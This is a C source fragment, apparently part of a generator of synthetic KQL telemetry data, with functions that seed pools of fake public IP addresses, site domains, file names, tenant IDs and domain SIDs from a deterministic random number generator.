uint32_t kqlGenPublicIpRng(KqlGenRng *r){
  for(;;){
    uint32_t ip = (uint32_t)(kqlGenRand(r)>>32);
    uint32_t a = ip>>24, b = (ip>>16)&255;
    if( a==0 || a==10 || a==127 || a>=224 ) continue;
    if( a==100 && b>=64 && b<128 ) continue;
    if( a==169 && b==254 ) continue;
    if( a==172 && b>=16 && b<32 ) continue;
    if( a==192 && (b==168 || b==0) ) continue;
    if( a==198 && (b==18 || b==19 || b==51) ) continue;
    if( a==203 && b==0 ) continue;
    if( (ip&255)==0 || (ip&255)==255 ) continue;
    return ip;
  }
}

static void initSites(KqlGenPools *p, KqlGenRng *r){
  int nWell = N(azWellKnown);
  for(int i=0; i<KQL_GEN_NSITE; i++){
    KqlGenSite *s = &p->aSite[i];
    s->ip = kqlGenPublicIpRng(r);
    if( i<nWell ){
      snprintf(s->zDomain, sizeof(s->zDomain), "%s", azWellKnown[i]);
    }else{
      const char *z1 = azSiteWord[kqlGenBelow(r, N(azSiteWord))];
      const char *z2 = azSiteWord[kqlGenBelow(r, N(azSiteWord))];
      const char *zT = azTld[kqlGenSkew(r, N(azTld))];
      snprintf(s->zDomain, sizeof(s->zDomain), "%s%s%u.%s", z1, z2, kqlGenBelow(r, 100), zT);
    }
  }
}

static void initFiles(KqlGenPools *p, KqlGenRng *r){
  int nExe = N(aExe), nCum = 0, nParent = 0;
  p->nExe = nExe;
  for(int i=0; i<nExe && i<64; i++){
    nCum += aExe[i].nWeight;
    nParent += aExe[i].bParent ? aExe[i].nWeight : 0;
    p->aExeCum[i] = nCum;
    p->aParentCum[i] = nParent;
  }
  for(int i=0; i<KQL_GEN_NFILE; i++){
    KqlGenFile *f = &p->aFile[i];
    f->iId = kqlGenRand(r);
    if( i<nExe ){
      snprintf(f->zName, sizeof(f->zName), "%s", aExe[i].zName);
      f->zFolder = aExe[i].zFolder;
      f->iExe = i;
    }else{
      const char *zW = azDocWord[kqlGenBelow(r, N(azDocWord))];
      const char *zE = azDocExt[kqlGenSkew(r, N(azDocExt))];
      if( kqlGenBelow(r, 2) ){
        snprintf(f->zName, sizeof(f->zName), "%s_%u%s", zW, 2024 + kqlGenBelow(r, 3), zE);
      }else{
        snprintf(f->zName, sizeof(f->zName), "%s-Q%u%s", zW, 1 + kqlGenBelow(r, 4), zE);
      }
      f->zFolder = azDocFolder[kqlGenSkew(r, N(azDocFolder))];
      f->iExe = -1;
    }
  }
}

void kqlGenPoolsInit(KqlGenPools *p, uint64_t iSeed){
  KqlGenRng r;
  memset(p, 0, sizeof(*p));
  kqlGenSeed(&r, kqlGenMix(iSeed ^ 0x706f6f6c73ULL));    /* "pools" */
  initUsers(p, &r);
  initHosts(p, &r);
  initSites(p, &r);
  initFiles(p, &r);
  for(int i=0; i<4; i++) p->aNatIp[i] = kqlGenPublicIpRng(&r);
  p->iTenant[0] = kqlGenRand(&r); p->iTenant[1] = kqlGenRand(&r);
  p->iSub[0] = kqlGenRand(&r);    p->iSub[1] = kqlGenRand(&r);
  for(int i=0; i<3; i++) p->aDomainSid[i] = 1000000000u + kqlGenBelow(&r, 3000000000u);
}
